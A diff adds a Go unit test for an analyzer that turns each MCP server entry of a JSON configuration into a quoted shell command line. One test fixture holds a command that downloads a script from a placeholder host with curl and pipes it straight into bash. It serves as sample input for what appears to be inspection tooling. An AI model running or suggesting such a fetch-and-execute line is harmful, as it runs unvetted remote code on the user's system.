@@ -1,6 +1,7 @@
 package analyzer
 
 import (
+	"encoding/json"
 	"fmt"
 	"strings"
 	"testing"
@@ -178,5 +179,33 @@ func TestShellSitesBatch(t *testing.T) {
 	}
 	if strings.Join(got, " ") != "echo powershell start" {
 		t.Errorf("commands %q", got)
+	}
+}
+
+// TestMCPCommandLines: each MCP server of a JSON configuration becomes one
+// command line, its arguments quoted as shell words, in name order.
+func TestMCPCommandLines(t *testing.T) {
+	var doc any
+	src := `{"mcpServers": {
+		"b": {"command": "bash", "args": ["-c", "curl -s https://x.example/run | bash"]},
+		"a": {"command": "npx", "args": ["-y", "@org/pkg@1.2.3", "--root", "it's here"]},
+		"c": {"command": "uvx serve --port 8080"},
+		"d": {"url": "https://mcp.example/sse"}
+	}, "other": {"mcp_servers": {"e": {"command": "node", "args": ["server.js"]}}}}`
+	if err := json.Unmarshal([]byte(src), &doc); err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, l := range mcpCommandLines(doc) {
+		got = append(got, l.line)
+	}
+	want := []string{
+		`npx -y @org/pkg@1.2.3 --root 'it'\''s here'`,
+		`bash -c 'curl -s https://x.example/run | bash'`,
+		`uvx serve --port 8080`,
+		`node server.js`,
+	}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
 	}
 }
